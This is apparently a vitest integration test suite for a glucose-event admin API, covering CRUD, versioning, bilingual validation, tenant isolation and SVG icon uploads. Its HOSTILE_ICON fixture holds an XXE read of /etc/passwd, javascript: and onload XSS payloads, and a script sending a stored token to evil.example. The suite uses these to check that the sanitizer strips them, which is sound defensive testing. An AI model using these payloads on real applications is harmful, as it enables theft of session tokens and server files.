import { UPLOAD_LIMIT_BYTES } from '@glucocare/domain';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiOf, auditRows } from '../../test/api';
import { createTestContext, type TestContext } from '../../test/harness';

let t: TestContext;
let admin: string;
let admin202: string;
let nurse: string;
let api: ReturnType<typeof apiOf>;

beforeAll(async () => {
  t = await createTestContext();
  api = apiOf(t);
  admin = await t.login('101', 'admin', 'Admin@123456');
  admin202 = await t.login('202', 'admin', 'Admin@202202');
  nurse = await t.login('101', 'nurse01', 'Nurse@2026');
});
afterAll(() => t.close());

type Item = {
  id: number;
  eventId: number;
  code: string;
  name: string;
  sort: number;
  isActive: boolean;
  hasIcon: boolean;
  iconUrl: string | null;
  version: number;
};
type GluEvent = { id: number; code: string; name: string; sort: number; version: number; items: Item[] };

const HOSTILE_ICON = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?t=' + localStorage.token)</script>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>
  <a href="javascript:alert(2)"><text>&xxe;</text></a>
  <circle cx="12" cy="12" r="10" fill="#52c41a"/>
</svg>`;
const PLAIN_ICON =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><rect width="24" height="24"/></svg>';

async function events(token = admin, query = ''): Promise<GluEvent[]> {
  return (await api('GET', `/v1/glu/event${query}`, token)).json().dataContent;
}
async function createEvent(body: object, token = admin): Promise<GluEvent> {
  const res = await api('POST', '/v1/glu/event/save', token, body);
  if (res.statusCode !== 200) throw new Error(res.body);
  return res.json().dataContent;
}
async function saveItem(body: object, token = admin): Promise<Item> {
  const res = await api('POST', '/v1/glu/event/item/save', token, body);
  if (res.statusCode !== 200) throw new Error(res.body);
  return res.json().dataContent;
}
const getIcon = (item: { id: number }, token = admin, headers: Record<string, string> = {}) =>
  t.request({ method: 'GET', url: `/app-service/v1/glu/event/item/${item.id}/icon`, token, headers });

describe('events', () => {
  it('starts empty, creates an event with an audit row, and lists it with its items', async () => {
    expect(await events()).toEqual([]);
    const meal = await createEvent({ code: 'MEAL', name: 'Meal', sort: 1 });
    expect(meal).toMatchObject({ code: 'MEAL', name: 'Meal', sort: 1, version: 1, items: [] });
    expect(await auditRows(t, 'gluEvent', meal.id, 'create')).toHaveLength(1);
    await createEvent({ code: 'SPORT', name: '运动', sort: 2 });
    expect((await events()).map((e) => e.code)).toEqual(['MEAL', 'SPORT']);
  });

  it('updates with the version, refuses a stale one and a code already used', async () => {
    const event = await createEvent({ code: 'INS', name: 'Insulin' });
    const res = await api('PUT', '/v1/glu/event/update', admin, {
      id: event.id,
      version: 1,
      code: 'INSULIN',
      name: 'Insulin dose',
    });
    expect(res.json().dataContent).toMatchObject({ code: 'INSULIN', name: 'Insulin dose', version: 2 });
    const stale = await api('PUT', '/v1/glu/event/update', admin, {
      id: event.id,
      version: 1,
      code: 'INSULIN',
      name: 'Stale',
    });
    expect(stale.statusCode).toBe(409);
    const taken = await api('POST', '/v1/glu/event/save', admin, { code: 'MEAL', name: 'Another' });
    expect(taken.statusCode).toBe(409);
    expect(taken.json().message).toBe('A glucose event with this code already exists');
    expect(
      (await api('POST', '/v1/glu/event/save', admin, { code: 'MEAL', name: 'x' }, 'zh-CN')).json().message,
    ).toBe('该血糖事件代码已存在');
    const [audit] = await auditRows(t, 'gluEvent', event.id, 'update');
    expect(audit).toMatchObject({ before: { code: 'INS' }, after: { code: 'INSULIN' } });
  });

  it.each([
    [{ name: 'No code' }, 'code', 'Please enter the code', '请输入编码'],
    [
      { code: 'C'.repeat(13), name: 'Long code' },
      'code',
      'The code must be 1-12 characters',
      '编码长度为 1-12 个字符',
    ],
    [{ code: 'OK', name: '' }, 'name', 'Please enter the name', '请输入名称'],
    [
      { code: 'OK', name: 'N'.repeat(13) },
      'name',
      'The name must be 1-12 characters',
      '名称长度为 1-12 个字符',
    ],
  ])('refuses the event %j with a message on %s in both languages', async (body, field, en, zh) => {
    const res = await api('POST', '/v1/glu/event/save', admin, body);
    expect(res.statusCode).toBe(400);
    expect(res.json().dataContent.errors).toEqual([{ field, message: en }]);
    const zhRes = await api('POST', '/v1/glu/event/save', admin, body, 'zh-CN');
    expect(zhRes.json().dataContent.errors).toEqual([{ field, message: zh }]);
  });

  it('refuses a negative sort, a string sort and fields a client must not set', async () => {
    for (const body of [
      { code: 'S1', name: 'x', sort: -1 },
      { code: 'S1', name: 'x', sort: '1' },
      { code: 'S1', name: 'x', tenantId: '202' },
      { code: 'S1', name: 'x', createdAt: '2020-01-01T00:00:00Z' },
      { code: 'S1', name: 'x', items: [] },
    ]) {
      expect((await api('POST', '/v1/glu/event/save', admin, body)).statusCode, JSON.stringify(body)).toBe(
        400,
      );
    }
    expect((await events()).map((e) => e.code)).not.toContain('S1');
  });
});

describe('event items and icons', () => {
  it('creates an item with a hostile icon and stores only its safe drawing', async () => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const item = await saveItem({
      eventId: meal.id,
      code: 'BREAKFAST',
      name: 'Breakfast',
      sort: 1,
      icon: HOSTILE_ICON,
    });
    expect(item).toMatchObject({
      eventId: meal.id,
      code: 'BREAKFAST',
      isActive: true,
      hasIcon: true,
      version: 1,
    });
    expect(item.iconUrl).toBe(`/v1/glu/event/item/${item.id}/icon?v=1`);
    const listed = (await events()).find((e) => e.code === 'MEAL')!;
    expect(listed.items.map((i) => i.code)).toEqual(['BREAKFAST']);
    expect(JSON.stringify(listed)).not.toContain('<svg'); // the list carries links, not the icons

    const res = await getIcon(item, nurse);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/svg+xml; charset=utf-8');
    expect(res.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.body).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">\n  \n  \n  \n  ' +
        '<circle cx="12" cy="12" r="10" fill="#52c41a"/>\n</svg>',
    );
    const { rows } = await t.handle.db.execute<{ icon: string }>(
      sql`select icon from glu_event_items where tenant_id = '101' and id = ${item.id}`,
    );
    expect(rows[0].icon).toBe(res.body);
    const [audit] = await auditRows(t, 'gluEventItem', item.id, 'create');
    expect(audit.after).toMatchObject({ code: 'BREAKFAST', hasIcon: true });
    expect((audit.after as { iconSha256: string }).iconSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(audit.after)).not.toContain('<svg');
  });

  it('serves icons with a validator, and only with a session', async () => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const item = await saveItem({ eventId: meal.id, code: 'LUNCH', name: 'Lunch', icon: PLAIN_ICON });
    const first = await getIcon(item);
    expect(first.body).toBe(PLAIN_ICON);
    const again = await getIcon(item, admin, { 'if-none-match': String(first.headers.etag) });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    const anonymous = await t.request({
      method: 'GET',
      url: `/app-service/v1/glu/event/item/${item.id}/icon`,
    });
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json().code).toBe('402');
  });

  it('keeps the icon when the field is absent, replaces it with text, removes it with null', async () => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const item = await saveItem({ eventId: meal.id, code: 'DINNER', name: 'Dinner', icon: PLAIN_ICON });
    const renamed = await saveItem({
      id: item.id,
      version: 1,
      eventId: meal.id,
      code: 'DINNER',
      name: 'Supper',
    });
    expect(renamed).toMatchObject({ name: 'Supper', hasIcon: true, version: 2 });
    expect((await getIcon(item)).body).toBe(PLAIN_ICON);
    const circle = '<svg><circle r="3"/></svg>';
    const replaced = await saveItem({
      id: item.id,
      version: 2,
      eventId: meal.id,
      code: 'DINNER',
      name: 'Supper',
      icon: circle,
    });
    expect(replaced.iconUrl).toBe(`/v1/glu/event/item/${item.id}/icon?v=3`);
    expect((await getIcon(item)).body).toBe('<svg xmlns="http://www.w3.org/2000/svg"><circle r="3"/></svg>');
    const removed = await saveItem({
      id: item.id,
      version: 3,
      eventId: meal.id,
      code: 'DINNER',
      name: 'Supper',
      icon: null,
    });
    expect(removed).toMatchObject({ hasIcon: false, iconUrl: null });
    const gone = await getIcon(item);
    expect(gone.statusCode).toBe(404);
    expect(gone.json().message).toBe('The record does not exist or has been deleted');
    const audits = await auditRows(t, 'gluEventItem', item.id, 'update');
    expect(audits).toHaveLength(3);
    expect(audits[2]).toMatchObject({
      before: { hasIcon: true },
      after: { hasIcon: false, iconSha256: null },
    });
  });

  it('refuses a stale version, a missing version, and a code the event already has', async () => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const sport = (await events()).find((e) => e.code === 'SPORT')!;
    const item = await saveItem({ eventId: meal.id, code: 'SNACK', name: 'Snack' });
    const stale = await api('POST', '/v1/glu/event/item/save', admin, {
      id: item.id,
      version: 2,
      eventId: meal.id,
      code: 'SNACK',
      name: 'x',
    });
    expect(stale.statusCode).toBe(409);
    const noVersion = await api('POST', '/v1/glu/event/item/save', admin, {
      id: item.id,
      eventId: meal.id,
      code: 'SNACK',
      name: 'x',
    });
    expect(noVersion.statusCode).toBe(400);
    expect(noVersion.json().dataContent.errors).toEqual([
      { field: 'version', message: 'This field is required' },
    ]);
    const dup = await api('POST', '/v1/glu/event/item/save', admin, {
      eventId: meal.id,
      code: 'SNACK',
      name: 'Again',
    });
    expect(dup.statusCode).toBe(409);
    expect(dup.json().message).toBe('This event already has an item with this code');
    await saveItem({ eventId: sport.id, code: 'SNACK', name: 'Snack' }); // another event: fine
  });

  const svgOnly = ['Icons must be SVG files', '图标只能上传 SVG 文件'];
  it.each([
    ['plain text', 'not an image', svgOnly],
    ['base64 of an SVG', Buffer.from(PLAIN_ICON).toString('base64'), svgOnly],
    ['an HTML page', '<html><body><svg/></body></html>', svgOnly],
    [
      'a broken SVG',
      '<svg><g></svg>',
      ['The icon is not a well-formed SVG document', '图标不是格式正确的 SVG 文件'],
    ],
    ['an empty file', '', ['The file is empty', '文件内容为空']],
    [
      'a file over 2 MB',
      `<svg>${' '.repeat(UPLOAD_LIMIT_BYTES)}</svg>`,
      ['The file must not be larger than 2 MB', '文件大小不能超过 2 MB'],
    ],
    [
      'a number',
      42,
      ['Invalid input: expected string, received number', '无效输入：期望 string，实际接收 数字'],
    ],
  ])('refuses %s as an icon, in both languages', async (_label, icon, [en, zh]) => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const body = { eventId: meal.id, code: 'BAD', name: 'Bad icon', icon };
    const res = await api('POST', '/v1/glu/event/item/save', admin, body);
    expect(res.statusCode).toBe(400);
    expect(res.json().dataContent.errors).toEqual([{ field: 'icon', message: en }]);
    const zhRes = await api('POST', '/v1/glu/event/item/save', admin, body, 'zh-CN');
    expect(zhRes.json().dataContent.errors).toEqual([{ field: 'icon', message: zh }]);
  });

  it.each([
    [{ code: 'X' }, 'eventId'],
    [{ eventId: 1, name: 'x' }, 'code'],
    [{ eventId: 1, code: 'C'.repeat(13), name: 'x' }, 'code'],
    [{ eventId: 1, code: 'X', name: 'N'.repeat(13) }, 'name'],
    [{ eventId: 1, code: 'X', name: 'x', isActive: 'yes' }, 'isActive'],
    [{ eventId: 1, code: 'X', name: 'x', tenantId: '202' }, 'tenantId'],
    [{ eventId: 1, code: 'X', name: 'x', createdAt: '2020-01-01T00:00:00Z' }, 'createdAt'],
  ])('refuses the item %j on %s', async (body, field) => {
    const res = await api('POST', '/v1/glu/event/item/save', admin, { name: 'x', ...body });
    expect(res.statusCode).toBe(400);
    expect(res.json().dataContent.errors.map((e: { field: string }) => e.field)).toContain(field);
  });

  it('refuses an unknown event, and another tenant’s event the same way', async () => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const missing = await api('POST', '/v1/glu/event/item/save', admin202, {
      eventId: 999999999,
      code: 'X',
      name: 'x',
    });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().message).toBe('Unknown glucose event');
    const foreign = await api('POST', '/v1/glu/event/item/save', admin202, {
      eventId: meal.id,
      code: 'X',
      name: 'x',
    });
    expect(foreign.json()).toEqual(missing.json());
  });

  it('enables and stops an item (POST /glu/event/item/enbale) with audit rows', async () => {
    const sport = (await events()).find((e) => e.code === 'SPORT')!;
    const item = await saveItem({ eventId: sport.id, code: 'WALK', name: 'Walking' });
    const off = await api('POST', '/v1/glu/event/item/enbale', admin, {
      id: item.id,
      isActive: false,
      version: 1,
    });
    expect(off.json().dataContent).toMatchObject({ isActive: false, version: 2 });
    const enabledOnly = (await events(nurse, '?isActive=true')).find((e) => e.code === 'SPORT')!;
    expect(enabledOnly.items.map((i) => i.code)).not.toContain('WALK');
    const everything = (await events(nurse)).find((e) => e.code === 'SPORT')!;
    expect(everything.items.find((i) => i.code === 'WALK')?.isActive).toBe(false);
    await api('POST', '/v1/glu/event/item/enbale', admin, { id: item.id, isActive: true, version: 2 });
    expect(await auditRows(t, 'gluEventItem', item.id, 'disable')).toHaveLength(1);
    expect(await auditRows(t, 'gluEventItem', item.id, 'enable')).toHaveLength(1);
    expect(
      (await api('POST', '/v1/glu/event/item/enbale', admin, { id: item.id, version: 3 })).statusCode,
    ).toBe(400);
  });

  it('refuses to delete an event while it has items; deletes items and then the event, softly', async () => {
    const event = await createEvent({ code: 'TEMP', name: 'Temporary' });
    const item = await saveItem({ eventId: event.id, code: 'ONE', name: 'One', icon: PLAIN_ICON });
    const refused = await api('DELETE', `/v1/glu/event?id=${event.id}&version=1`, admin);
    expect(refused.statusCode).toBe(409);
    expect(refused.json()).toMatchObject({
      message: 'Delete the items of this event first',
      dataContent: { items: 1 },
    });
    const zh = await api('DELETE', `/v1/glu/event?id=${event.id}&version=1`, admin, undefined, 'zh-CN');
    expect(zh.json().message).toBe('请先删除该事件下的选项');

    expect((await api('DELETE', `/v1/glu/event/item?id=${item.id}&version=1`, admin)).statusCode).toBe(200);
    expect((await getIcon(item)).statusCode).toBe(404);
    expect((await api('DELETE', `/v1/glu/event/item?id=${item.id}&version=2`, admin)).statusCode).toBe(404);
    expect(await auditRows(t, 'gluEventItem', item.id, 'delete')).toHaveLength(1);
    // the spec's filter option sends DELETE as GET with the method override
    const viaOverride = await t.request({
      method: 'GET',
      url: `/app-service/v1/glu/event?id=${event.id}&version=1`,
      token: admin,
      headers: { 'x-http-method-override': 'DELETE' },
    });
    expect(viaOverride.statusCode).toBe(200);
    expect((await events()).map((e) => e.code)).not.toContain('TEMP');
    expect(await auditRows(t, 'gluEvent', event.id, 'delete')).toHaveLength(1);
    const { rows } = await t.handle.db.execute<{ n: number }>(sql`select count(*)::int as n from glu_events
      where tenant_id = '101' and id = ${event.id} and deleted_at is not null`);
    expect(rows[0].n).toBe(1);
    await createEvent({ code: 'TEMP', name: 'Reused code' });
    expect((await api('DELETE', '/v1/glu/event', admin)).statusCode).toBe(400);
  });
});

describe('access', () => {
  it('lets clinical staff read events and icons, and only administrators change them', async () => {
    expect((await api('GET', '/v1/glu/event', nurse)).statusCode).toBe(200);
    expect((await api('POST', '/v1/glu/event/save', nurse, { code: 'N', name: 'n' })).statusCode).toBe(403);
    expect(
      (await api('POST', '/v1/glu/event/item/save', nurse, { eventId: 1, code: 'N', name: 'n' })).statusCode,
    ).toBe(403);
    expect(
      (await api('POST', '/v1/glu/event/item/enbale', nurse, { id: 1, isActive: true, version: 1 }))
        .statusCode,
    ).toBe(403);
    expect((await api('DELETE', '/v1/glu/event/item?id=1&version=1', nurse)).statusCode).toBe(403);
  });

  it('answers a tenant-202 session using tenant-101 ids exactly as for a missing id', async () => {
    const meal = (await events()).find((e) => e.code === 'MEAL')!;
    const item = meal.items.find((i) => i.code === 'BREAKFAST')!;
    const missingEvent = await api('DELETE', '/v1/glu/event?id=999999999&version=1', admin202);
    expect(missingEvent.statusCode).toBe(404);
    expect(
      (await api('DELETE', `/v1/glu/event?id=${meal.id}&version=${meal.version}`, admin202)).json(),
    ).toEqual(missingEvent.json());
    const update = await api('PUT', '/v1/glu/event/update', admin202, {
      id: meal.id,
      version: meal.version,
      code: 'MEAL',
      name: 'Taken over',
    });
    expect(update.json()).toEqual(missingEvent.json());
    const missingItem = await api('DELETE', '/v1/glu/event/item?id=999999999&version=1', admin202);
    expect(
      (await api('DELETE', `/v1/glu/event/item?id=${item.id}&version=${item.version}`, admin202)).json(),
    ).toEqual(missingItem.json());
    const enable = await api('POST', '/v1/glu/event/item/enbale', admin202, {
      id: item.id,
      isActive: false,
      version: item.version,
    });
    expect(enable.json()).toEqual(missingItem.json());
    const icon = await getIcon(item, admin202);
    expect(icon.statusCode).toBe(404);
    expect(icon.json()).toEqual((await getIcon({ id: 999999999 }, admin202)).json());
    expect(await events(admin202)).toEqual([]);
    expect((await getIcon(item)).statusCode).toBe(200);
  });

  it('documents the item body, icon included, in the OpenAPI document', async () => {
    const doc = (await t.request({ method: 'GET', url: '/app-service/docs/json' })).json();
    const body =
      doc.paths['/app-service/v1/glu/event/item/save'].post.requestBody.content['application/json'].schema;
    expect(Object.keys(body.properties)).toEqual(
      expect.arrayContaining(['id', 'version', 'eventId', 'code', 'name', 'sort', 'isActive', 'icon']),
    );
    expect(doc.paths['/app-service/v1/glu/event/item/enbale'].post).toBeDefined();
  });
});
